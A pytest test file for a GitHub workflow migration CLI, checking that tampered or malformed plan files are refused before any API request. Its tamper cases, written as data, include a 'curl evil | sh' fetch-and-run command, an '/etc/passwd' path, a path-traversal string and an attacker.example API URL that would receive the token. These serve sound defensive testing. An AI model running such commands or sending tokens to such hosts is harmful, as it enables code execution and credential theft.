"""Hostile or broken plan files: `apply`, `rollback` and `status` refuse them in one line, exit 2, before any
request reaches GitHub. A careful attacker recomputes the digest (it is a checksum anyone can compute), so each
tampering below is checked with and without a valid digest where that makes a difference.

A reviewer who only flips `enabled` switches is accepted, and the edit is shown.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from migrator.apply import pacing
from migrator.cli import main
from migrator.plan.model import digest_of
from migrator.sandbox.testing import Sandbox, running_sandbox, write_seed
from tests.golden import golden_tree

TOKEN = "tok-admin-0a1b2c3d4e5f"
Tamper = Callable[[dict[str, Any]], None]


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sandbox]:
    seed = write_seed(
        tmp_path_factory.mktemp("seed"),
        {"acme": {"service": golden_tree("reference"), "tool": golden_tree("cross-file")}},
        org_meta={"acme": {"secrets": ["PAT_TOKEN"], "tokens": {TOKEN: "full"}}},
    )
    with running_sandbox(seed) as running:
        yield running


@pytest.fixture(scope="module")
def good_plan(sandbox: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    path = tmp_path_factory.mktemp("plan") / "plan.json"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GITHUB_TOKEN", TOKEN)
        assert main(["--quiet", "plan", "--org", "acme", "--api-url", sandbox.url, "--out", str(path)]) == 0
    data: dict[str, Any] = json.loads(path.read_text())
    assert [r["name"] for r in data["repos"]] == ["acme/service", "acme/tool"]
    return data


@pytest.fixture(autouse=True)
def env(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    monkeypatch.setattr(pacing, "_sleep", lambda seconds: None)


def write(tmp_path: Path, data: dict[str, Any] | bytes, *, redigest: bool = True) -> Path:
    path = tmp_path / "plan.json"
    if isinstance(data, bytes):
        path.write_bytes(data)
        return path
    if redigest:
        data["digest"] = digest_of(data)
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def refused(
    sandbox: Sandbox, capsys: pytest.CaptureFixture[str], path: Path, command: str, *extra: str
) -> tuple[int, str]:
    """Run a remote command on `path`; return its exit code and stderr, and prove nothing reached GitHub."""
    sandbox.clear_requests()
    argv = [command, str(path), "--api-url", sandbox.url, *extra]
    code = main(["--quiet", *argv])
    err = capsys.readouterr().err
    assert sandbox.requests() == [], f"{command} talked to GitHub before validating the plan"
    assert "Traceback" not in err
    return code, err.strip()


def first_change(data: dict[str, Any], action: str = "modify") -> dict[str, Any]:
    change: dict[str, Any] = next(c for c in data["repos"][0]["changes"] if c["action"] == action)
    return change


TAMPERINGS: dict[str, tuple[Tamper, str]] = {
    "path outside workflows": (lambda d: first_change(d).update(path="src/app.py"), "outside .github/workflows"),
    "absolute path": (lambda d: first_change(d).update(path="/etc/passwd"), "absolute"),
    "climbing path": (lambda d: first_change(d).update(path=".github/workflows/../../x.yml"), "climbs out"),
    "backslash path": (lambda d: first_change(d).update(path=".github\\workflows\\a.yml"), "not a POSIX path"),
    "NUL in path": (lambda d: first_change(d).update(path=".github/workflows/a\0.yml"), "NUL"),
    "unknown action": (lambda d: first_change(d).update(action="chmod"), "schema"),
    "unknown disposition": (lambda d: first_change(d).update(disposition="yolo"), "schema"),
    "unknown top-level key": (lambda d: d.update(run_after_apply="curl evil | sh"), "schema"),
    "future format": (lambda d: d.update(format_version=99), "newer than this migrator"),
    "oversized content": (lambda d: first_change(d).update(after="x" * 1_000_001), "oversized"),
    "foreign repository": (lambda d: d["repos"][0].update(name="evil/service"), "not a repository of the plan's org"),
    "repeated repository": (lambda d: d["repos"].append(dict(d["repos"][0])), "appears twice"),
    "foreign branch": (lambda d: d["repos"][0].update(branch="migrator/other"), "not the plan's"),
    "a path changed twice": (
        lambda d: d["repos"][0]["changes"].append(dict(first_change(d))),
        "changes one path twice",
    ),
    "delete that writes": (lambda d: first_change(d, "delete").update(after="x"), "does not match"),
    "modify without content": (lambda d: first_change(d).update(after=None), "does not match"),
    "forged rollback content": (lambda d: first_change(d).update(before="evil"), "not the blob"),
    "edit beyond the switches": (lambda d: first_change(d).update(after="evil"), "digest mismatch"),
    # a reviewer reads the diff; apply writes `after`: they must be the same change
    "content that is not the diff": (lambda d: first_change(d).update(after="evil"), "not the change apply would"),
}


@pytest.mark.parametrize("command", ["apply", "rollback"])
@pytest.mark.parametrize("case", sorted(TAMPERINGS))
def test_tampered_plans_are_refused_before_any_request(
    sandbox: Sandbox,
    good_plan: dict[str, Any],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    command: str,
    case: str,
) -> None:
    tamper, message = TAMPERINGS[case]
    data = json.loads(json.dumps(good_plan))
    tamper(data)
    code, err = refused(sandbox, capsys, write(tmp_path, data, redigest=case != "edit beyond the switches"), command)
    assert code == 2
    assert message in err
    assert err.count("\n") == 0 and err.startswith("migrator: error: ")


@pytest.mark.parametrize("command", ["apply", "rollback", "status"])
@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\xff\xfe{}", "not valid UTF-8"),
        (b"{nope", "not valid JSON"),
        (b"[]", "schema"),
        (b'{"format_version": 1, "format_version": 1}', "repeats the key 'format_version'"),
        (b"[" * 100_000 + b"]" * 100_000, "too deep to be a plan"),
    ],
)
def test_unreadable_plans_are_one_line_exit_2(
    sandbox: Sandbox,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    command: str,
    content: bytes,
    message: str,
) -> None:
    code, err = refused(sandbox, capsys, write(tmp_path, content), command)
    assert code == 2
    assert message in err and "\n" not in err


@pytest.mark.parametrize("command", ["apply", "rollback", "status"])
def test_a_plan_for_another_org_or_server_is_refused(
    sandbox: Sandbox,
    good_plan: dict[str, Any],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    command: str,
) -> None:
    path = write(tmp_path, json.loads(json.dumps(good_plan)))
    code, err = refused(sandbox, capsys, path, command, "--org", "other")
    assert (code, "does not match the plan's org acme" in err) == (2, True)

    elsewhere = json.loads(json.dumps(good_plan))
    elsewhere["api_url"] = "https://ghe.attacker.example/api/v3"  # where a forged plan would send the token
    code, err = refused(sandbox, capsys, write(tmp_path, elsewhere), command)
    assert code == 2 and "the plan is for https://ghe.attacker.example/api/v3" in err

    # without --api-url, the token's home ($GITHUB_API_URL, else github.com) decides
    monkeypatch.setenv("GITHUB_API_URL", "https://api.github.com")
    sandbox.clear_requests()
    assert main(["--quiet", command, str(path)]) == 2
    assert "without --api-url the token goes to https://api.github.com" in capsys.readouterr().err
    assert sandbox.requests() == []


def test_a_reviewers_switch_edits_are_applied_and_shown(
    sandbox: Sandbox, good_plan: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = json.loads(json.dumps(good_plan))
    readme = next(c for c in data["repos"][0]["changes"] if c["path"] == "README.md")
    readme["enabled"] = False
    path = write(tmp_path, data, redigest=False)  # switches are outside the digest: no recomputation needed
    edit = "reviewer edit: acme/service README.md: disabled by a reviewer"
    assert main(["--quiet", "apply", str(path), "--api-url", sandbox.url, "--min-interval", "0"]) == 0
    out, err = capsys.readouterr()
    assert edit in err and "acme/service" in out
    files = sandbox.store.repo("acme", "service")
    assert files is not None
    branch = files.branch_sha("migrator/" + data["campaign"])
    assert branch is not None
    readme_on_branch = files.files_at(branch)["README.md"]
    assert readme_on_branch.sha == readme["blob_before"]  # the disabled change was not made
    assert main(["--quiet", "rollback", str(path), "--api-url", sandbox.url, "--min-interval", "0"]) == 0
    assert edit in capsys.readouterr().err


@pytest.mark.parametrize("flags", [["--per-minute", "0"], ["--per-hour", "-1"], ["--min-interval", "-5"]])
def test_impossible_pacing_is_one_line_before_any_request(
    sandbox: Sandbox, good_plan: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str], flags: list[str]
) -> None:
    path = write(tmp_path, json.loads(json.dumps(good_plan)))
    code, err = refused(sandbox, capsys, path, "apply", *flags)
    assert code == 2 and err.startswith("migrator: error: pacing needs --per-minute")
